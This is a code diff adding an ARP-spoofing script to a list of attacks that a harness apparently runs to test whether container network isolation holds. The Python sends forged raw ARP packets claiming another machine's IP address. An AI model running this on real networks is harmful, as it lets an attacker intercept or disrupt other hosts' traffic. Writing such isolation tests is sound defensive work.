@@ -108,6 +108,21 @@ ATTACKS = {
 }  # fmt: skip
 
 
+# Says to the host that the address of another machine is here, then that the other's hardware address is.
+TAKE_PLACE = r"""
+import socket, struct, sys, time
+address, hardware, host_address = sys.argv[1:]
+raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+raw.bind(("host0", 0))
+mac = lambda text: bytes.fromhex(text.replace(":", ""))
+own = mac(open("/sys/class/net/host0/address").read().strip())
+for sender in [own, mac(hardware)] * 20:
+    says = sender + socket.inet_aton(address) + bytes(6) + socket.inet_aton(host_address)
+    raw.send(b"\xff" * 6 + sender + struct.pack("!HHHBBH", 0x806, 1, 0x800, 6, 4, 1) + says)
+    time.sleep(0.02)
+"""
+
+
 def script() -> str:
     """Return a script that tries all attacks and names, a line each, those that got through."""
     lines = []
